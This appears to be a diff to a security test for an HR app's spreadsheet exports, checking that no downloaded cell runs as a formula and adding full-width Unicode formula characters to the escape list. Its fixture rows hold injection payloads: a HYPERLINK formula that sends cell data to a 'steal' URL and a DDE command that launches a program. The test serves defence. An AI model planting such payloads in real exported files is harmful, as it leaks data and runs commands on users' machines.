@@ -23,7 +23,7 @@ from tests.learn.quiz import save_answers
 from tests.security.test_escaping import import_roster, roster
 from tests.security.world import build_world, client_for
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦")
 HYPERLINK = '=HYPERLINK("http://example.com/steal?"&A1,"詳細")'
 
 
@@ -51,7 +51,8 @@ def cells(response) -> list[object]:
     for row in sheet.iter_rows():
         for cell in row:
             assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
-            found.append(cell.value)
+            # A quote-prefixed cell is text; Excel shows it with the quote in the formula bar.
+            found.append("'" + cell.value if cell.quotePrefix else cell.value)
     return found
 
 
@@ -67,6 +68,7 @@ def test_no_download_holds_a_cell_a_spreadsheet_would_run(app, people, formula_t
         roster(
             ("E001", HYPERLINK, "+81-3-1234-5678", "@SUM(1+1)課", "-2+3", "a@example.jp"),
             ("E002", "@cmd|'/C calc'!A0", "=1+1", "@SUM(1+1)課", "=1+1", ""),
+            ("E003", '＝HYPERLINK("http://example.com")', "＋81", "＠課", "﹦1+1", ""),
         ),
     )
     assert hr.post("/hr/employees/E002/reset").status_code == 200  # E002 now waits for a code
